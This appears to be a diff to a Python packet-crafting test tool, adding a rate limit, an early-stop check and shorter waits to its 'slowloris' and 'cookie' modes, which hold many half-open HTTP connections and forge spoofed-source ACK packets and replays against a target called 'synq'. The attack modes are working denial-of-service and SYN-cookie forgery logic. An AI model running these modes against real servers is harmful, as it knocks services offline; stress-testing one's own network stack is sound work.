@@ -370,12 +370,16 @@ def mode_slowloris(a, w):
         c = Conn(w, a.src, a.dst, a.port, sport=10000 + i)
         conns.append(c)
     up = []
+    empty = 0
     for k in range(0, len(conns), 256):
-        up += handshake_all(w, t, conns[k:k + 256], timeout=2.0)
-        for c in up[-256:]:
-            if c.rcv_nxt is not None:
-                c.send(b"GET / HTTP/1.1\r\nHost: synq\r\nX-Slow: ")
+        got = handshake_all(w, t, conns[k:k + 256], timeout=2.0)
+        for c in got:
+            c.send(b"GET / HTTP/1.1\r\nHost: synq\r\nX-Slow: ")
+        up += got
         t.pump()
+        empty = empty + 1 if not got else 0
+        if empty == 2:  # synq answers this host no more: stop asking
+            break
     t0 = time.monotonic()
     while time.monotonic() - t0 < a.hold:
         t.pump(0.2)
@@ -469,6 +473,9 @@ def mode_cookie(a, w):
     n = 0
     base = struct.unpack("!I", socket.inet_aton("198.18.0.128"))[0]
     while n < a.count and time.monotonic() - t0 < a.seconds:
+        if a.pps and n > (time.monotonic() - t0) * a.pps:
+            time.sleep(0.001)
+            continue
         src = socket.inet_ntoa(struct.pack("!I", base + random.randint(0, 100)))
         w.send(build(w.mac, SYNQ_MAC, src, a.dst, random.randint(1024, 65535), a.port,
                      random.getrandbits(32), random.getrandbits(32), ACK | PSH, 502, req,
@@ -494,12 +501,12 @@ def mode_cookie(a, w):
         while c.rcvd == 0 and time.monotonic() < end:
             t.pump(0.05)
         c.rst()
-        t.pump(1.0)  # what was in flight before the RST
+        t.pump(0.5)  # what was in flight before the RST
         first = c.rcvd
         for _ in range(a.replays):
             w.send(final)
             replayed += 1
-        t.pump(1.0)
+        t.pump(0.5)
         answered += 1 if c.rcvd > first else 0
     result(mode="cookie", forged=n, replayed=replayed, replay_answered=answered,
            replay_first_answered=sum(1 for c in t.conns.values() if c.rcvd > 0), frames=w.sent)
@@ -576,6 +583,7 @@ def main():
     ap.add_argument("--burst", type=int, default=20)
     ap.add_argument("--gap", type=float, default=0.002)
     ap.add_argument("--count", type=int, default=20000)
+    ap.add_argument("--pps", type=int, default=0, help="cookie: forged ACKs a second (0: as fast as it can)")
     ap.add_argument("--replay-conns", type=int, default=10)
     ap.add_argument("--replays", type=int, default=5)
     ap.add_argument("--rounds", type=int, default=50)
